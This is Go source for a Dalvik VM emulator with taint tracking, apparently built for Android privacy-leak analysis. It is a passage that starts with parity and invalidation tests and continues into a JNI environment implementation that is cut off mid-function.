		BinLit(dex.Add, 0, 3, 0).
		Bin(dex.Div, 0, 0, 4). // may divide by zero
		Label("t0end").
		Goto("t1").
		Label("h0").
		MoveException(1).
		Const(0, -1).
		Label("t1").
		InvokeStatic(k, "boom", "VI", 3).
		Label("t1end").
		Goto("t2").
		Label("h1").
		MoveException(1).
		BinLit(dex.Add, 0, 0, 1000).
		Label("t2").
		NewInstance(1, "Ljava/lang/RuntimeException;").
		Throw(1).
		Label("t2end").
		Goto("ret").
		Label("h2").
		MoveException(1).
		BinLit(dex.Add, 0, 0, 7).
		Label("ret").
		Return(0).
		Try("t0", "t0end", "h0", "").
		Try("t1", "t1end", "h1", "").
		Try("t2", "t2end", "h2", "Ljava/lang/RuntimeException;").
		Done()

	// uncaught propagates a throwable out of the method.
	cb.Method("uncaught", "V", dex.AccStatic, 1).
		NewInstance(0, "Ljava/lang/RuntimeException;").
		Throw(0).
		Done()

	vm.RegisterClass(cb.Build())
}

// parityRun invokes one method on a fresh VM configured by cfg and returns
// everything observable: value, taint, thrown class, error string, and the
// executed-instruction counter.
func parityRun(t *testing.T, noTranslate bool, cfg func(*VM), method string, args []uint32, taints []taint.Tag) (uint64, taint.Tag, string, string, uint64) {
	t.Helper()
	vm := newVM(t)
	vm.NoJavaTranslate = noTranslate
	if cfg != nil {
		cfg(vm)
	}
	registerParityClasses(vm)
	ret, rt, thrown, err := vm.InvokeByName("Lcom/parity/K;", method, args, taints)
	thrownCls, errStr := "", ""
	if thrown != nil && thrown.Class != nil {
		thrownCls = thrown.Class.Name
	}
	if err != nil {
		errStr = err.Error()
	}
	return ret, rt, thrownCls, errStr, vm.JavaInsnCount
}

// TestTranslateParity: the translated engine must be observationally
// identical to the interpreter — same values, same taints, same exceptions,
// and the same executed-instruction count — across taint configurations.
func TestTranslateParity(t *testing.T) {
	configs := []struct {
		name string
		cfg  func(*VM)
	}{
		{"vanilla", func(vm *VM) { vm.TaintJava = false }},
		{"taintdroid", func(vm *VM) { vm.TaintJava = true }},
		{"gated-clean", func(vm *VM) { vm.TaintJava = true; vm.GateJava = true }},
	}
	cases := []struct {
		method string
		args   []uint32
		taints []taint.Tag
	}{
		{"arith", []uint32{50}, nil},
		{"fp", []uint32{12}, nil},
		{"arrays", []uint32{16}, nil},
		{"objs", []uint32{5}, nil},
		{"excep", []uint32{20, 4}, nil},
		{"excep", []uint32{20, 0}, nil}, // divide by zero path
		{"uncaught", nil, nil},
		{"arith", []uint32{50}, []taint.Tag{taint.IMEI}},
		{"excep", []uint32{20, 0}, []taint.Tag{taint.SMS, 0}},
	}
	for _, c := range configs {
		for _, tc := range cases {
			ret1, rt1, th1, err1, n1 := parityRun(t, false, c.cfg, tc.method, tc.args, tc.taints)
			ret2, rt2, th2, err2, n2 := parityRun(t, true, c.cfg, tc.method, tc.args, tc.taints)
			if ret1 != ret2 || rt1 != rt2 || th1 != th2 || err1 != err2 {
				t.Errorf("%s/%s%v: translated (%d,%v,%q,%q) != interpreted (%d,%v,%q,%q)",
					c.name, tc.method, tc.args, ret1, rt1, th1, err1, ret2, rt2, th2, err2)
			}
			if n1 != n2 {
				t.Errorf("%s/%s%v: instruction count %d (translated) != %d (interpreted)",
					c.name, tc.method, tc.args, n1, n2)
			}
		}
	}
}

// TestConstStringInterning: a 10k-iteration const-string loop must not grow
// the heap, on the translated path and the interpreter fallback alike.
func TestConstStringInterning(t *testing.T) {
	for _, noTranslate := range []bool{false, true} {
		vm := newVM(t)
		vm.NoJavaTranslate = noTranslate
		cb := dex.NewClass("Lcom/intern/S;")
		cb.Method("spin", "LI", dex.AccStatic, 2).
			ConstString(0, "kept").
			Label("loop").
			IfZ(2, dex.Le, "done").
			ConstString(1, "churn").
			BinLit(dex.Sub, 2, 2, 1).
			Goto("loop").
			Label("done").
			Return(0).
			Done()
		vm.RegisterClass(cb.Build())

		// Warm up once so both const-string sites are interned.
		invoke(t, vm, "Lcom/intern/S;", "spin", 1)
		before := vm.HeapObjects()
		ret, _ := invoke(t, vm, "Lcom/intern/S;", "spin", 10000)
		after := vm.HeapObjects()
		if after != before {
			t.Errorf("noTranslate=%v: 10k const-string loop grew vm.objects %d -> %d",
				noTranslate, before, after)
		}
		o, ok := vm.ObjectAt(uint32(ret))
		if !ok || o.Str != "kept" {
			t.Errorf("noTranslate=%v: interned string lost: %+v", noTranslate, o)
		}
	}
}

// TestMidRunStepFnInvalidation: installing a JavaStepFn while a translated
// frame is mid-flight must deopt that frame before its next instruction —
// the observer sees every instruction that executes after the installing
// call returns.
func TestMidRunStepFnInvalidation(t *testing.T) {
	vm := newVM(t)
	var seen []int
	installer := dex.NewClass("Lcom/epoch/Install;").Build()
	addBuiltin(vm, installer, "arm", "V", dex.AccStatic, func(vm *VM, th *Thread, args []uint32, taints []taint.Tag) (uint64, taint.Tag, *Object) {
		vm.SetJavaStepFn(func(th *Thread, m *dex.Method, pc int, insn *dex.Insn) {
			if m.Name == "outer" {
				seen = append(seen, pc)
			}
		})
		return 0, 0, nil
	})
	vm.RegisterClass(installer)

	cb := dex.NewClass("Lcom/epoch/T;")
	cb.Method("outer", "V", dex.AccStatic, 2).
		Const(0, 1).                                   // pc 0
		Const(1, 2).                                   // pc 1
		InvokeStatic("Lcom/epoch/Install;", "arm", "V"). // pc 2: installs observer
		Bin(dex.Add, 0, 0, 1).                         // pc 3: must be observed
		Bin(dex.Add, 0, 0, 1).                         // pc 4: must be observed
		ReturnVoid().                                  // pc 5
		Done()
	vm.RegisterClass(cb.Build())

	// First run translates and compiles "outer".
	invoke(t, vm, "Lcom/epoch/T;", "outer")
	if len(seen) == 0 {
		t.Fatal("step function never fired after mid-run installation")
	}
	if seen[0] != 3 {
		t.Errorf("first observed pc = %d, want 3 (the instruction right after the installing call)", seen[0])
	}
	want := []int{3, 4, 5}
	if len(seen) != len(want) {
		t.Fatalf("observed pcs %v, want %v", seen, want)
	}
	for i := range want {
		if seen[i] != want[i] {
			t.Fatalf("observed pcs %v, want %v", seen, want)
		}
	}
	if vm.JavaDeopts == 0 {
		t.Error("expected a recorded deopt for the mid-run epoch bump")
	}
}

// TestMidRunHookInvalidation: registering an internal hook mid-run bumps the
// epoch, deopts the running translated frame, and forces retranslation on the
// next invocation.
func TestMidRunHookInvalidation(t *testing.T) {
	vm := newVM(t)
	installer := dex.NewClass("Lcom/epoch/Hooker;").Build()
	addBuiltin(vm, installer, "arm", "V", dex.AccStatic, func(vm *VM, th *Thread, args []uint32, taints []taint.Tag) (uint64, taint.Tag, *Object) {
		vm.HookInternal("dvmInterpret", InternalHook{})
		return 0, 0, nil
	})
	vm.RegisterClass(installer)

	cb := dex.NewClass("Lcom/epoch/H;")
	cb.Method("outer", "I", dex.AccStatic, 1).
		Const(0, 5).
		InvokeStatic("Lcom/epoch/Hooker;", "arm", "V").
		BinLit(dex.Add, 0, 0, 1).
		Return(0).
		Done()
	vm.RegisterClass(cb.Build())

	epochBefore := vm.TransEpoch()
	ret, _ := invoke(t, vm, "Lcom/epoch/H;", "outer")
	if ret != 6 {
		t.Fatalf("outer returned %d, want 6", ret)
	}
	if vm.TransEpoch() == epochBefore {
		t.Fatal("HookInternal did not bump the translation epoch")
	}
	if vm.JavaDeopts == 0 {
		t.Error("expected the running frame to deopt after the hook installation")
	}

	// The stale compiled form must not be reused: the next invocation
	// retranslates under the new epoch.
	trans := vm.JavaTransMethods
	m, _ := vm.classes["Lcom/epoch/H;"].Method("outer")
	cm, ok := m.Compiled.(*compiledMethod)
	if !ok {
		t.Fatal("method lost its compiled slot")
	}
	if cm.epoch == vm.TransEpoch() {
		t.Fatal("compiled form claims the new epoch without retranslation")
	}
	invoke(t, vm, "Lcom/epoch/H;", "outer")
	if vm.JavaTransMethods <= trans {
		t.Error("stale compiled method was reused instead of retranslated")
	}
}

// TestGateBailMidMethod: in a gated run, a source invoked mid-method flips
// the latch; the translated frame must switch from the clean variant to the
// tainting variant before the next instruction so the returned taint
// propagates.
func TestGateBailMidMethod(t *testing.T) {
	vm := newVM(t)
	vm.GateJava = true

	src := dex.NewClass("Lcom/bail/Src;").Build()
	addBuiltin(vm, src, "imei", "I", dex.AccStatic, func(vm *VM, th *Thread, args []uint32, taints []taint.Tag) (uint64, taint.Tag, *Object) {
		return 42, taint.IMEI, nil
	})
	vm.RegisterClass(src)

	cb := dex.NewClass("Lcom/bail/B;")
	cb.Method("flow", "I", dex.AccStatic, 2).
		Const(0, 1).
		InvokeStatic("Lcom/bail/Src;", "imei", "I").
		MoveResult(1). // after the bail this must copy the taint
		Bin(dex.Add, 0, 0, 1).
		Return(0).
		Done()
	vm.RegisterClass(cb.Build())

	ret, rt, thrown, err := vm.InvokeByName("Lcom/bail/B;", "flow", nil, nil)
	if err != nil || thrown != nil {
		t.Fatalf("flow: %v %v", err, thrown)
	}
	if ret != 43 {
		t.Errorf("flow returned %d, want 43", ret)
	}
	if rt != taint.IMEI {
		t.Errorf("flow return taint %v, want IMEI (clean variant kept running past the latch flip)", rt)
	}
	if vm.JavaGateBails == 0 {
		t.Error("expected a recorded clean->tainting bail")
	}
	if !vm.TaintSeen() {
		t.Error("latch did not flip")
	}
}
