package dvm

import (
	"repro/internal/arm"
	"repro/internal/dex"
	"repro/internal/fault"
	"repro/internal/kernel"
	"repro/internal/taint"
)

// jniImpl is the host body of one JNI function. It reads AAPCS arguments from
// the CPU and leaves the result in R0 (R0/R1 for wide).
type jniImpl func(vm *VM, c *arm.CPU, ctx *CallCtx)

// jniTypes are the <Type> expansions of Table II / Table IV.
var jniTypes = []struct {
	name string
	kind byte
}{
	{"Void", 'V'}, {"Object", 'L'}, {"Boolean", 'Z'}, {"Byte", 'B'},
	{"Char", 'C'}, {"Short", 'S'}, {"Int", 'I'}, {"Long", 'J'},
	{"Float", 'F'}, {"Double", 'D'},
}

// installJNIEnv assigns guest addresses to every JNI function, registers the
// CPU trampolines, and writes the JNIEnv structure into guest memory.
func (vm *VM) installJNIEnv(cursor uint32) {
	type entry struct {
		name string
		impl jniImpl
	}
	var entries []entry
	add := func(name string, impl jniImpl) {
		entries = append(entries, entry{name, impl})
	}

	add("GetVersion", func(vm *VM, c *arm.CPU, ctx *CallCtx) { c.R[0] = 0x00010006 })
	add("FindClass", jniFindClass)
	add("GetMethodID", jniGetMethodID)
	add("GetStaticMethodID", jniGetMethodID)
	add("GetFieldID", jniGetFieldID)
	add("GetStaticFieldID", jniGetFieldID)

	// Call<Type>Method families (Table II).
	for _, t := range jniTypes {
		kind := t.kind
		for _, variant := range []byte{0, 'V', 'A'} {
			variant := variant
			suffix := ""
			if variant != 0 {
				suffix = string(variant)
			}
			add("Call"+t.name+"Method"+suffix, makeCallMethod(kind, variant, false, false))
			add("CallStatic"+t.name+"Method"+suffix, makeCallMethod(kind, variant, true, false))
			add("CallNonvirtual"+t.name+"Method"+suffix, makeCallMethod(kind, variant, false, true))
		}
	}

	// Object creation (Table III).
	add("NewObject", jniNewObject)
	add("NewObjectV", jniNewObject)
	add("NewObjectA", jniNewObject)
	add("NewString", jniNewString)
	add("NewStringUTF", jniNewStringUTF)
	add("NewObjectArray", jniNewObjectArray)
	for _, t := range jniTypes[2:] { // primitive arrays
		kind := t.kind
		add("New"+t.name+"Array", func(vm *VM, c *arm.CPU, ctx *CallCtx) {
			jniNewPrimitiveArray(vm, c, ctx, kind)
		})
	}

	// Strings.
	add("GetStringUTFChars", jniGetStringUTFChars)
	add("ReleaseStringUTFChars", jniReleaseStringUTFChars)
	add("GetStringUTFLength", jniGetStringUTFLength)
	add("GetStringLength", jniGetStringUTFLength)

	// Arrays.
	add("GetArrayLength", jniGetArrayLength)
	for _, t := range jniTypes[2:] {
		kind := t.kind
		add("Get"+t.name+"ArrayRegion", func(vm *VM, c *arm.CPU, ctx *CallCtx) {
			jniGetArrayRegion(vm, c, ctx, kind)
		})
		add("Set"+t.name+"ArrayRegion", func(vm *VM, c *arm.CPU, ctx *CallCtx) {
			jniSetArrayRegion(vm, c, ctx, kind)
		})
		add("Get"+t.name+"ArrayElements", func(vm *VM, c *arm.CPU, ctx *CallCtx) {
			jniGetArrayElements(vm, c, ctx, kind)
		})
	}

	// Field access (Table IV).
	for _, t := range jniTypes[1:] {
		kind := t.kind
		add("Get"+t.name+"Field", makeGetField(kind, false))
		add("Set"+t.name+"Field", makeSetField(kind, false))
		add("GetStatic"+t.name+"Field", makeGetField(kind, true))
		add("SetStatic"+t.name+"Field", makeSetField(kind, true))
	}

	// Exceptions.
	add("ThrowNew", jniThrowNew)
	add("ExceptionOccurred", func(vm *VM, c *arm.CPU, ctx *CallCtx) {
		c.R[0] = vm.AddLocalRef(vm.thread().Exception)
	})
	add("ExceptionClear", func(vm *VM, c *arm.CPU, ctx *CallCtx) {
		vm.thread().Exception = nil
	})

	// References.
	add("NewGlobalRef", func(vm *VM, c *arm.CPU, ctx *CallCtx) {
		c.R[0] = vm.AddGlobalRef(vm.DecodeRef(c.R[1]))
	})
	add("DeleteGlobalRef", func(vm *VM, c *arm.CPU, ctx *CallCtx) { vm.DeleteRef(c.R[1]) })
	add("DeleteLocalRef", func(vm *VM, c *arm.CPU, ctx *CallCtx) { vm.DeleteRef(c.R[1]) })

	// Native-method (re-)registration. Appended last so every pre-existing
	// trampoline keeps its address across this table growing.
	add("RegisterNatives", jniRegisterNatives)

	// Lay out trampolines and write the env structure.
	tableAddr := kernel.JNIEnvBase + 16
	vm.Mem.Write32(kernel.JNIEnvBase, tableAddr)
	for i, e := range entries {
		addr := cursor
		cursor += 16
		vm.internalAddrs[e.name] = addr
		vm.internalNames[addr] = e.name
		vm.Mem.Write32(tableAddr+uint32(4*i), addr)
		name, impl := e.name, e.impl
		vm.CPU.Hook(addr, func(c *arm.CPU) arm.HookAction {
			ctx := &CallCtx{VM: vm, Name: name, Thread: vm.thread()}
			for _, h := range vm.hooks[name] {
				if h.Before != nil {
					h.Before(ctx)
				}
			}
			impl(vm, c, ctx)
			for _, h := range vm.hooks[name] {
				if h.After != nil {
					h.After(ctx)
				}
			}
			return arm.ActionReturn
		})
	}
	vm.libdvmEnd = cursor
	if vm.Task != nil {
		vm.Kern.AddVMA(vm.Task, kernel.VMA{
			Start: kernel.LibdvmBase, End: cursor, Perms: "r-x", Name: "/system/lib/libdvm.so",
		})
	}
}

// JNISyms returns the symbol table native app assembly links against.
func (vm *VM) JNISyms() map[string]uint32 {
	out := make(map[string]uint32, len(vm.internalAddrs))
	for name, addr := range vm.internalAddrs {
		out[name] = addr
	}
	out["JNIEnv"] = kernel.JNIEnvBase
	return out
}

// --- class / ID lookups ----------------------------------------------------

func jniFindClass(vm *VM, c *arm.CPU, ctx *CallCtx) {
	name := vm.Mem.ReadCString(c.R[1], 0)
	if len(name) == 0 {
		c.R[0] = 0
		return
	}
	if name[0] != 'L' {
		name = "L" + name + ";"
	}
	cls, ok := vm.classes[name]
	if !ok {
		c.R[0] = 0
		return
	}
	obj := vm.classObject(cls)
	ctx.ResultObj = obj
	ctx.ResultRef = vm.AddLocalRef(obj)
	c.R[0] = ctx.ResultRef
}

func (vm *VM) newMethodID(m *dex.Method) uint32 {
	vm.methodIDs = append(vm.methodIDs, m)
	return 0x6d00_0000 | uint32(len(vm.methodIDs)-1)<<2
}

func (vm *VM) methodByID(id uint32) *dex.Method {
	idx := int(id&0x00ff_ffff) >> 2
	if id>>24 != 0x6d || idx >= len(vm.methodIDs) {
		return nil
	}
	return vm.methodIDs[idx]
}

func (vm *VM) newFieldID(f *dex.Field) uint32 {
	vm.fieldIDs = append(vm.fieldIDs, f)
	return 0x6600_0000 | uint32(len(vm.fieldIDs)-1)<<2
}

func (vm *VM) fieldByID(id uint32) *dex.Field {
	idx := int(id&0x00ff_ffff) >> 2
	if id>>24 != 0x66 || idx >= len(vm.fieldIDs) {
		return nil
	}
	return vm.fieldIDs[idx]
}

func jniGetMethodID(vm *VM, c *arm.CPU, ctx *CallCtx) {
	clsObj := vm.DecodeRef(c.R[1])
	name := vm.Mem.ReadCString(c.R[2], 0)
	if clsObj == nil || !clsObj.IsClass {
		c.R[0] = 0
		return
	}
	cls := clsObj.ClassRef
	for cls != nil {
		if m, ok := cls.Method(name); ok {
			ctx.JavaMethod = m
			c.R[0] = vm.newMethodID(m)
			return
		}
		cls = vm.classes[cls.Super]
	}
	c.R[0] = 0
}

func jniGetFieldID(vm *VM, c *arm.CPU, ctx *CallCtx) {
	clsObj := vm.DecodeRef(c.R[1])
	name := vm.Mem.ReadCString(c.R[2], 0)
	if clsObj == nil || !clsObj.IsClass {
		c.R[0] = 0
		return
	}
	if f, ok := clsObj.ClassRef.FieldByName(name); ok {
		ctx.Field = f
		c.R[0] = vm.newFieldID(f)
		return
	}
	c.R[0] = 0
}

// jniRegisterNatives implements JNIEnv->RegisterNatives: it reads `count`
// guest JNINativeMethod records — three words each: {const char *name,
// const char *signature, void *fnPtr} — and (re)binds the named native
// methods to the given entry points. Rebinding a bound method to a different
// address is the classic hostile move against per-method instrumentation
// state: translated code and fused chains baked the old entry address in, so
// the rebind starts a new translation epoch and is surfaced to the analyzer
// via OnRegisterNatives.
func jniRegisterNatives(vm *VM, c *arm.CPU, ctx *CallCtx) {
	clsObj := vm.DecodeRef(c.R[1])
	tbl := c.R[2]
	n := int(int32(c.R[3]))
	if clsObj == nil || !clsObj.IsClass || n < 0 {
		c.R[0] = ^uint32(0) // JNI_ERR
		return
	}
	cls := clsObj.ClassRef
	for i := 0; i < n; i++ {
		rec := tbl + uint32(12*i)
		name := vm.Mem.ReadCString(vm.Mem.Read32(rec), 0)
		fn := vm.Mem.Read32(rec + 8)
		m, ok := cls.Method(name)
		if !ok || !m.IsNative() {
			c.R[0] = ^uint32(0)
			return
		}
		old := m.NativeAddr
		m.NativeAddr = fn
		if vm.OnNativeBind != nil {
			vm.OnNativeBind(m, old, fn, true)
		}
		if old != 0 && old != fn {
			vm.transEpoch++
			if vm.OnRegisterNatives != nil {
				vm.OnRegisterNatives(m, old, fn)
			}
		}
	}
	c.R[0] = 0
}

// --- Call<Type>Method ------------------------------------------------------

// jniArgReader yields successive argument words for the three JNI call
// variants: inline varargs (AAPCS), va_list ("V", word-packed), and jvalue
// array ("A", 8-byte slots).
type jniArgReader struct {
	vm      *VM
	c       *arm.CPU
	variant byte
	pos     int    // AAPCS index for inline varargs
	ptr     uint32 // buffer pointer for V/A
	slot    int
	half    int // second word of a wide jvalue slot
	srcs    []ArgSrc
}

func (r *jniArgReader) readWord() uint32 {
	switch r.variant {
	case 'A':
		base := r.ptr + uint32(8*r.slot) + uint32(4*r.half)
		r.srcs = append(r.srcs, ArgSrc{Reg: -1, Addr: base})
		return r.vm.Mem.Read32(base)
	case 'V':
		addr := r.ptr
		r.ptr += 4
		r.srcs = append(r.srcs, ArgSrc{Reg: -1, Addr: addr})
		return r.vm.Mem.Read32(addr)
	default:
		v := r.c.Arg(r.pos)
		src := ArgSrc{Reg: -1}
		if r.pos < 4 {
			src.Reg = r.pos
		} else {
			src.Addr = r.c.R[arm.SP] + uint32(4*(r.pos-4))
		}
		r.pos++
		r.srcs = append(r.srcs, src)
		return v
	}
}

// half tracks the second word of a wide jvalue slot.
func (r *jniArgReader) next(wide bool) (uint32, uint32) {
	if r.variant == 'A' {
		lo := r.readWord()
		var hi uint32
		if wide {
			r.half = 1
			hi = r.readWord()
			r.half = 0
		}
		r.slot++
		return lo, hi
	}
	lo := r.readWord()
	var hi uint32
	if wide {
		hi = r.readWord()
	}
	return lo, hi
}

func makeCallMethod(retKind byte, variant byte, static, nonvirtual bool) jniImpl {
	return func(vm *VM, c *arm.CPU, ctx *CallCtx) {
		vm.jniCallMethod(c, ctx, retKind, variant, static, nonvirtual)
	}
}

// jniCallMethod implements all Call*Method* variants: it decodes the method
// ID and arguments, then funnels the invocation through dvmCallMethod[VA] and
// dvmInterpret so NDroid's JNI-exit hooks see the same chain as on Android
// (§V-B "JNI Exit", Fig. 5).
func (vm *VM) jniCallMethod(c *arm.CPU, ctx *CallCtx, retKind byte, variant byte, static, nonvirtual bool) {
	recvRef := c.R[1]
	argPos := 2
	if nonvirtual {
		argPos = 3 // skip the explicit clazz argument
	}
	mid := c.Arg(argPos)
	argPos++
	m := vm.methodByID(mid)
	if m == nil {
		c.R[0] = 0
		return
	}
	if vm.OnReflectCall != nil {
		vm.OnReflectCall(m)
	}

	reader := &jniArgReader{vm: vm, c: c, variant: variant, pos: argPos}
	if variant == 'V' || variant == 'A' {
		reader.ptr = c.Arg(argPos)
	}

	// Collect raw argument words; object args stay as indirect refs here.
	var rawArgs []uint32
	var rawRefs []uint32
	if !m.IsStatic() {
		rawArgs = append(rawArgs, recvRef)
		rawRefs = append(rawRefs, recvRef)
		reader.srcs = append(reader.srcs, ArgSrc{Reg: 1})
	}
	for i := 1; i < len(m.Shorty); i++ {
		switch m.Shorty[i] {
		case 'J', 'D':
			lo, hi := reader.next(true)
			rawArgs = append(rawArgs, lo, hi)
			rawRefs = append(rawRefs, 0, 0)
		case 'L':
			v, _ := reader.next(false)
			rawArgs = append(rawArgs, v)
			rawRefs = append(rawRefs, v)
		default:
			v, _ := reader.next(false)
			rawArgs = append(rawArgs, v)
			rawRefs = append(rawRefs, 0)
		}
	}

	dvmName := "dvmCallMethodV"
	if variant == 'A' {
		dvmName = "dvmCallMethodA"
	}

	// Pooled pair: decoded argument words plus the mutable taint slots the
	// JNI-exit hooks fill in. Both are dead once the outer call returns (all
	// their consumers are dvmCallMethod*/dvmInterpret hooks, which run inside
	// it), so they go back to the freelist below.
	decoded, javaTaints := vm.getScratch(len(rawArgs))

	ctx.JavaMethod = m
	ctx.JavaArgRefs = rawRefs
	ctx.JavaArgSrc = reader.srcs
	ctx.JavaTaints = javaTaints

	th := vm.thread()
	var ret uint64
	var thrown *Object

	vm.internalCall(dvmName, vm.callsiteOf(ctx.Name), ctx, func() {
		// Decode indirect references to direct pointers, as dvmCallMethod*
		// does through dvmDecodeIndirectRef.
		copy(decoded, rawArgs)
		for i, ref := range rawRefs {
			if ref == 0 {
				continue
			}
			dctx := &CallCtx{Thread: th, Value: uint64(ref)}
			vm.internalCall("dvmDecodeIndirectRef", vm.callsiteOf(dvmName), dctx, func() {
				if o := vm.DecodeRef(ref); o != nil {
					decoded[i] = o.Addr
				} else {
					decoded[i] = 0
				}
			})
		}
		ctx.JavaArgs = decoded

		if m.Builtin != nil || m.IsNative() {
			// Builtins and nested natives have no interpreter frame.
			r, rt, threw, err := vm.Invoke(th, m, decoded, ctx.JavaTaints)
			if err != nil {
				panic(err)
			}
			ret, thrown = r, threw
			th.RetVal, th.RetTaint = r, rt
			return
		}

		frame, ferr := th.pushFrame(m, decoded, ctx.JavaTaints)
		if ferr != nil {
			panic(ferr)
		}
		ctx.FrameAddr = frame.FP
		vm.internalCall("dvmInterpret", vm.callsiteOf(dvmName), ctx, func() {
			r, rt, threw, err := vm.run(th, frame)
			if err != nil {
				panic(err)
			}
			ret, thrown = r, threw
			th.RetVal = r
			if !vm.TaintJava {
				rt = 0
			}
			th.RetTaint = rt
		})
		th.popFrame()
	})

	vm.putScratch(decoded, javaTaints)
	ctx.JavaArgs, ctx.JavaTaints = nil, nil

	if thrown != nil {
		th.Exception = thrown
		c.R[0] = 0
		return
	}
	ctx.Ret = ret
	switch retKind {
	case 'V':
		c.R[0] = 0
	case 'L':
		if o, ok := vm.objects[uint32(ret)]; ok {
			ctx.ResultObj = o
			ctx.ResultRef = vm.AddLocalRef(o)
			c.R[0] = ctx.ResultRef
		} else {
			c.R[0] = 0
		}
	case 'J', 'D':
		c.R[0] = uint32(ret)
		c.R[1] = uint32(ret >> 32)
	default:
		c.R[0] = uint32(ret)
	}
}

// --- object creation -------------------------------------------------------

func jniNewStringUTF(vm *VM, c *arm.CPU, ctx *CallCtx) {
	ctx.CStrAddr = c.R[1]
	s := vm.Mem.ReadCString(c.R[1], 0)
	vm.internalCall("dvmCreateStringFromCstr", vm.callsiteOf("NewStringUTF"), ctx, func() {
		ctx.ResultObj = vm.NewString(s)
	})
	ctx.ResultRef = vm.AddLocalRef(ctx.ResultObj)
	c.R[0] = ctx.ResultRef
}

func jniNewString(vm *VM, c *arm.CPU, ctx *CallCtx) {
	ctx.UTF16Addr = c.R[1]
	ctx.UTF16Len = c.R[2]
	chars := make([]rune, ctx.UTF16Len)
	for i := range chars {
		chars[i] = rune(vm.Mem.Read16(ctx.UTF16Addr + uint32(2*i)))
	}
	vm.internalCall("dvmCreateStringFromUnicode", vm.callsiteOf("NewString"), ctx, func() {
		ctx.ResultObj = vm.NewString(string(chars))
	})
	ctx.ResultRef = vm.AddLocalRef(ctx.ResultObj)
	c.R[0] = ctx.ResultRef
}

func jniNewObject(vm *VM, c *arm.CPU, ctx *CallCtx) {
	clsObj := vm.DecodeRef(c.R[1])
	if clsObj == nil || !clsObj.IsClass {
		c.R[0] = 0
		return
	}
	vm.internalCall("dvmAllocObject", vm.callsiteOf("NewObject"), ctx, func() {
		ctx.ResultObj = vm.NewInstance(clsObj.ClassRef)
	})
	// Run the constructor if one was named.
	if m := vm.methodByID(c.Arg(2)); m != nil {
		args := []uint32{ctx.ResultObj.Addr}
		reader := &jniArgReader{vm: vm, c: c, variant: 0, pos: 3}
		for i := 1; i < len(m.Shorty); i++ {
			wide := m.Shorty[i] == 'J' || m.Shorty[i] == 'D'
			lo, hi := reader.next(wide)
			if v := lo; m.Shorty[i] == 'L' {
				if o := vm.DecodeRef(v); o != nil {
					lo = o.Addr
				}
			}
			args = append(args, lo)
			if wide {
				args = append(args, hi)
			}
		}
		cctx := &CallCtx{Thread: ctx.Thread, JavaMethod: m, JavaArgs: args,
			JavaTaints: make([]taint.Tag, len(args))}
		vm.internalCall("dvmCallMethod", vm.callsiteOf("NewObject"), cctx, func() {
			_, _, _, err := vm.Invoke(vm.thread(), m, args, cctx.JavaTaints)
			if err != nil {
				panic(err)
			}
		})
	}
	ctx.ResultRef = vm.AddLocalRef(ctx.ResultObj)
	c.R[0] = ctx.ResultRef
}

func jniNewPrimitiveArray(vm *VM, c *arm.CPU, ctx *CallCtx, kind byte) {
	n := int(int32(c.R[1]))
	vm.internalCall("dvmAllocPrimitiveArray", vm.callsiteOf(ctx.Name), ctx, func() {
		ctx.ResultObj = vm.NewArray(kind, n)
	})
	ctx.ResultRef = vm.AddLocalRef(ctx.ResultObj)
	c.R[0] = ctx.ResultRef
}

func jniNewObjectArray(vm *VM, c *arm.CPU, ctx *CallCtx) {
	n := int(int32(c.R[1]))
	vm.internalCall("dvmAllocArrayByClass", vm.callsiteOf("NewObjectArray"), ctx, func() {
		ctx.ResultObj = vm.NewArray('L', n)
	})
	ctx.ResultRef = vm.AddLocalRef(ctx.ResultObj)
	c.R[0] = ctx.ResultRef
}

// --- strings ----------------------------------------------------------------

func jniGetStringUTFChars(vm *VM, c *arm.CPU, ctx *CallCtx) {
	o := vm.DecodeRef(c.R[1])
	if o == nil {
		// NULL jstring: lenient, as on-device (returns NULL).
		c.R[0] = 0
		return
	}
	if !o.IsString {
		// A live non-string reference passed as jstring is undefined behavior
		// on a device (often a SIGSEGV inside libdvm); here it is a contained
		// guest fault. JNI table functions have no error return, so it panics
		// a typed fault to the containment boundary.
		panic(vm.faultf(fault.JNIMisuse, nil, "GetStringUTFChars on non-string reference %#x", c.R[1]))
	}
	ctx.FieldObj = o
	buf := vm.Libc.Malloc(uint32(len(o.Str)) + 1)
	vm.Mem.WriteCString(buf, o.Str)
	if isCopy := c.R[2]; isCopy != 0 {
		vm.Mem.Write8(isCopy, 1)
	}
	ctx.Ret = uint64(buf)
	ctx.Value = uint64(c.R[1]) // the jstring ref, for shadow lookups
	c.R[0] = buf
}

func jniReleaseStringUTFChars(vm *VM, c *arm.CPU, ctx *CallCtx) {
	vm.Libc.Free(c.R[2])
	c.R[0] = 0
}

func jniGetStringUTFLength(vm *VM, c *arm.CPU, ctx *CallCtx) {
	o := vm.DecodeRef(c.R[1])
	if o == nil || !o.IsString {
		c.R[0] = 0
		return
	}
	c.R[0] = uint32(len(o.Str))
}

// --- arrays ------------------------------------------------------------------

func jniGetArrayLength(vm *VM, c *arm.CPU, ctx *CallCtx) {
	o := vm.DecodeRef(c.R[1])
	if o == nil || !o.IsArray {
		c.R[0] = 0
		return
	}
	c.R[0] = uint32(o.Len)
}

func jniGetArrayRegion(vm *VM, c *arm.CPU, ctx *CallCtx, kind byte) {
	o := vm.DecodeRef(c.R[1])
	if o == nil || !o.IsArray {
		c.R[0] = 0
		return
	}
	start, n, buf := int(c.R[2]), int(c.R[3]), c.Arg(4)
	if start < 0 || n < 0 || start+n > o.Len {
		c.R[0] = 0
		return
	}
	w := int(o.ElemWidth)
	vm.Mem.WriteBytes(buf, o.Data[start*w:(start+n)*w])
	ctx.FieldObj = o
	ctx.Ret = uint64(buf)
	ctx.UTF16Len = uint32(n * w) // byte count for taint models
	c.R[0] = 0
}

func jniSetArrayRegion(vm *VM, c *arm.CPU, ctx *CallCtx, kind byte) {
	o := vm.DecodeRef(c.R[1])
	if o == nil || !o.IsArray {
		c.R[0] = 0
		return
	}
	start, n, buf := int(c.R[2]), int(c.R[3]), c.Arg(4)
	if start < 0 || n < 0 || start+n > o.Len {
		c.R[0] = 0
		return
	}
	w := int(o.ElemWidth)
	copy(o.Data[start*w:(start+n)*w], vm.Mem.ReadBytes(buf, uint32(n*w)))
	ctx.FieldObj = o
	ctx.Ret = uint64(buf)
	ctx.UTF16Len = uint32(n * w)
	c.R[0] = 0
}

func jniGetArrayElements(vm *VM, c *arm.CPU, ctx *CallCtx, kind byte) {
	o := vm.DecodeRef(c.R[1])
	if o == nil || !o.IsArray {
		c.R[0] = 0
		return
	}
	buf := vm.Libc.Malloc(uint32(len(o.Data)))
	vm.Mem.WriteBytes(buf, o.Data)
